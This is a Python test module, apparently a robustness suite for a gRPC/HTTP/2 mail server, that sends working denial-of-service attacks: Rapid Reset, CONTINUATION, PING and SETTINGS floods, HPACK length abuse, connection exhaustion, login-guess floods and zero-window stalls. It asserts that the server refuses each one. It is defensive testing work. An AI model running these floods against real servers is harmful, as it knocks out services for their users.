"""The attacks. Each answers what it saw and the connections that it holds on to,
and asserts what the server replied. In the long form they do far more."""
import collections
import threading
import time

import measure
from peer import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING,
                  RST_STREAM, SETTINGS, PREFACE, Client, Raw, block,
                  call_headers, connect, frame, message, text_field)

LIST = "Mail/List"
SEED_LIST = "/turbomessage.ServidorTurboMessage/get_bandeja"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
COUNT = ("Mail/Count", b"\x08\x01")  # the inbox
WHOLE_INBOX = b"\x08\x01\x30\x01"  # ListRequest: box, with_body


def token():
    with open("token", encoding="utf-8") as file:
        return file.read().strip()


def pour(raw, data, times):
    """How often the server took it."""
    for taken in range(times):
        if not raw.send(data, 3):
            return taken
    return times


# --- Frames ---


def rapid_reset(long):
    """CVE-2023-44487: calls that are broken off as soon as they are made."""
    count = 50_000 if long else 5_000
    headers = block(call_headers(LIST))
    raw = Raw()
    for first in range(1, 2 * count, 1000):
        calls = b"".join(
            frame(HEADERS, END_HEADERS, stream, headers)
            + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in range(first, first + 1000, 2))
        if not raw.send(calls):
            break
    return f"{first // 2} resets", [raw]


def continuation_flood(long):
    """Header blocks that have no end (VU#421644), one connection after another."""
    piece = frame(CONTINUATION, 0, 1, block([("x-more", "a" * 100)] * 10)) * 50
    taken = 0
    for _ in range(2 if long else 12):
        raw = Raw()
        raw.send(frame(HEADERS, 0, 1, block(call_headers(LIST))))
        taken += pour(raw, piece, 4000 if long else 200)
        raw.close()
    return f"{taken * 50} frames", []


def ping_flood(long):
    """CVE-2019-9512: pings whose answers nobody reads."""
    raw = Raw()
    taken = pour(raw, frame(PING, 0, 0, b"12345678") * 1000,
                 5000 if long else 200)
    return f"{taken * 1000} pings", [raw]


def settings_flood(long):
    """CVE-2019-9515: settings whose acknowledgements nobody reads."""
    raw = Raw()
    taken = pour(raw, frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * 1000,
                 5000 if long else 200)
    return f"{taken * 1000} frames", [raw]


# --- Headers ---


def bad_headers(long):
    """What no client sends: each call is refused, and the next one served."""
    told = collections.Counter()
    for wrong in ({"te": None}, {"te": "gzip"}, {"__path": None},
                  {"__path": "turbomessage"}, {"__path": "/" + "x" * 4000},
                  {"__method": "GET"}, {"__method": "BREW"},
                  {"__scheme": None}, {"__authority": None},
                  {"content_type": None}, {"content_type": "text/html"},
                  {"authorization": "Bearer"}, {"authorization": "\0"},
                  {"grpc_timeout": "soon"}, {"grpc_timeout": "9" * 40 + "H"},
                  {"grpc_encoding": "brew"}, {"x_bin": "=not base64="},
                  {"X-Upper": "x"}, {"connection": "close"}):
        client = Client()
        status = client.call(LIST, seconds=5, **wrong)
        assert status not in (0, "silent"), f"{wrong}: {status}"
        told[status] += 1
        client.close()
    client = Client()
    assert client.call(*COUNT, token()) == 0
    return f"refused with {dict(told)}", [client]


def huge_metadata(long):
    """More metadata than a call may have: that call is refused, or all of its
    connection."""
    told = collections.Counter()
    for _ in range(100 if long else 10):
        client = Client()
        client.learn()
        status = client.call(*COUNT, token(), seconds=5, x_more="a" * 9000)
        assert status not in (0, "silent"), status
        told[status] += 1
        client.close()
    raw = Raw()
    data = block(call_headers(LIST) + [("x-more", "a" * 60_000)] * 10)
    for stream in range(1, 200 if long else 20, 2):
        raw.send(frame(HEADERS, END_STREAM, stream, data[:16_000]) + b"".join(
            frame(CONTINUATION, 0, stream, data[at:at + 16_000])
            for at in range(16_000, len(data), 16_000)
        ) + frame(CONTINUATION, END_HEADERS, stream))
    raw.closed(0.2)
    return f"refused with {dict(told)}", [raw]


def aborting_headers(long):
    """CVE-2023-1428: one that is wrong, and then more than 8 KiB."""
    for name, value in (("te", "x"), (":scheme", "x"),
                        ("grpclb_client_stats", "x")):
        rest = [(k, v) for k, v in call_headers(LIST) if k != name]
        data = block([(name, value), *rest, ("x-more", "a" * 7000),
                      ("x-yet-more", "b" * 7000)])
        raw = Raw()
        raw.learn()
        raw.send(frame(HEADERS, END_STREAM, 1, data[:10_000])
                 + frame(CONTINUATION, END_HEADERS, 1, data[10_000:]))
        raw.closed(0.2)
        raw.close()
    return "no abort", []


def long_string(long):
    """CVE-2023-33953: a header said to have 1 GiB, of which 2 MiB come. The
    time for it grows with the square of that: 32 MiB take minutes."""
    raw = Raw()
    raw.send(frame(HEADERS, 0, 1, b"\0\x01x\x7f\x81\xff\xff\xff\x03"))
    taken = pour(raw, frame(CONTINUATION, 0, 1, b"a" * 16384), 128)
    return f"{taken * 16} KiB taken", [raw]


def endless_number(long):
    """CVE-2023-33953: a length written with zeros that never end."""
    raw = Raw()
    raw.send(frame(HEADERS, 0, 1, b"\0\x01x\x7f"))
    taken = pour(raw, frame(CONTINUATION, 0, 1, b"\x80" * 16384), 128)
    return f"{taken * 16} KiB taken", [raw]


# --- Connections ---


def connection_flood(long):
    """More connections than the server may have files; the honest user comes by
    a Unix socket, and others by TCP again as soon as it is over."""
    held = []
    for _ in range(200):
        try:
            held.append(connect(1))
        except OSError:
            break
    assert len(held) > 64, "the server has more files than the test expects"
    time.sleep(0.2)
    for connection in held:
        connection.close()
    end = time.monotonic() + 10
    while (status := try_call()) != 0:
        assert time.monotonic() < end, f"deaf after the flood: {status}"
    return f"{len(held)} connections", []


def try_call():
    try:
        client = Client()
    except OSError as error:
        return str(error)
    with client.socket:
        return client.call(*COUNT, token(), seconds=2)


def slow_handshakes(long):
    """Half a preface, or one byte of it at a time. The server gives them 10
    seconds, which only the long form waits for."""
    held = [connect() for _ in range(400 if long else 100)]
    for connection in held[::2]:
        connection.sendall(PREFACE[:12])
    begun = time.monotonic()
    for byte in PREFACE[:20]:
        for connection in held[1::2]:
            connection.sendall(bytes([byte]))
        time.sleep(0.3 if long else 0.02)
    if long:
        for connection in held:
            connection.settimeout(max(1, begun + 20 - time.monotonic()))
            try:
                while connection.recv(4096):
                    pass
            except ConnectionError:
                pass  # anything but a timeout will do
    return f"{len(held)} handshakes", held


# --- Calls ---


def half_requests(long):
    """Calls by strangers, in which the end of a long message never comes."""
    count = 900 if long else 100
    headers = block(call_headers("Accounts/Login"))
    begin = frame(DATA, 0, 1, b"\0\0\x3f\xff\xff" + b"a" * 16000)
    raws = [Raw() for _ in range(4 if long else 1)]
    for raw in raws:
        threading.Thread(target=raw.closed, args=(60,), daemon=True).start()
        for stream in range(1, 2 * count, 2):
            raw.send(frame(HEADERS, END_HEADERS, stream, headers)
                     + begin[:5] + stream.to_bytes(4, "big") + begin[9:], 2)
        for stream in range(1, 2 * count, 2):
            pour(raw, frame(DATA, 0, stream, b"a" * 16000), 16)
    return f"{count} calls on each of {len(raws)} connections", raws


def reflection_flood(long):
    """Reflection by strangers who ask nothing: gRPC takes a thread for each."""
    clients = [Client() for _ in range(4 if long else 1)]
    for client in clients:
        for _ in range(500):
            client.open(call_headers("x", __path=REFLECTION))
        client.pump(1, lambda c=client: len(c.statuses) >= 480)
    threads = measure.threads()
    assert threads < 60, f"{threads} threads"
    return f"{500 * len(clients)} calls, {threads} threads", clients


def login_flood(long):
    """More logins than are computed at once; none gets in, all are told, and
    they cost less than to compute three of four."""
    count = 900 if long else 400
    clients = [Client() for _ in range(4 if long else 1)]
    told = collections.Counter()

    def guess(client, name):
        client.open(call_headers("Accounts/Login"), message(
            text_field(1, name) + text_field(2, "wrong horse")))

    few, alone = 20, Client()
    before = measure.cpu_seconds()
    for index in range(few):
        guess(alone, f"first{index}")
    alone.pump(60, lambda: len(alone.statuses) == few)
    assert set(alone.statuses.values()) == {16}, f"statuses {alone.statuses}"
    computed = measure.cpu_seconds() - before
    for client in clients:
        for index in range(count):
            guess(client, f"guess{index}")
    for client in clients:
        client.pump(60, lambda c=client: len(c.statuses) == count)
        told.update(client.statuses.values())
    spent = measure.cpu_seconds() - before - computed
    assert sum(told.values()) == count * len(clients), f"not all: {told}"
    assert 0 not in told and 8 in told, f"statuses {told}"
    worth = spent / (computed / few)
    assert worth < 0.75 * count * len(clients), f"worth {worth:.0f} computed logins"
    return f"refused with {dict(told)}, worth {worth:.0f} computed", [
        alone, *clients]


def zero_window(long):
    """A user who asks for replies of 1 MB, again and again, and takes none; of
    either contract."""
    seed = message(text_field(1, "ana") + text_field(2, token()))
    told = collections.Counter()
    clients = [Client(window=0) for _ in range(10 if long else 2)]
    for client in clients:
        for _ in range(50):
            client.open(call_headers(LIST, token()), message(WHOLE_INBOX))
            client.open(call_headers(LIST, __path=SEED_LIST), seed)
        client.pump(0.5)
        told.update(client.statuses.values())
    # The original's contract tells it by an empty tray, which doesn't fit here.
    assert told and set(told) == {8}, f"statuses {told}"
    return f"{100 * len(clients)} replies, {told[8]} calls refused", clients


def unread_watches(long):
    """A user with 100 watches from the oldest mail on, who reads none. Those
    with mail under way end after a minute, and the next get theirs, which only
    the long form waits for."""
    client = Client(window=0)
    for _ in range(100):
        client.open(call_headers("Mail/Watch", token()),
                    message(b"\x08\x01\x1a\x00"), end=False)
    if long:
        client.pump(200, lambda: len(client.statuses) == 100)
        assert len(client.statuses) == 100, "watches that never end"
    else:
        client.pump(0.5)
    return f"{len(client.statuses)} of 100 watches ended", [client]


def unread_names(long):
    """A user with many watches of messages whose names are what is large."""
    clients = [Client(window=0) for _ in range(3 if long else 1)]
    for client in clients:
        for _ in range(900):
            client.open(call_headers("Mail/Watch", token()),
                        message(b"\x08\x01\x1a\x00"), end=False)
        client.pump(1)
    return f"{900 * len(clients)} watches", clients


def unread_batches(long):
    """A user who asks in batches for long answers, masses of them, and reads
    none: an invalid request with a key that was used has its first answer."""
    request = b"\x2a\x01k\x30\x01"  # SendRequest: request_id, once
    batch = message((b"\x0a" + bytes([len(request)]) + request) * 1000)
    clients = [Client(window=0) for _ in range(5 if long else 1)]
    for client in clients:
        client.learn()
        for _ in range(200):
            client.open(call_headers("Mail/SendBatches", token()), batch,
                        end=False)
            client.pump(0.01)
        client.pump(1)
    assert not any(client.statuses for client in clients), "calls that ended"
    return f"{200 * len(clients)} calls", clients
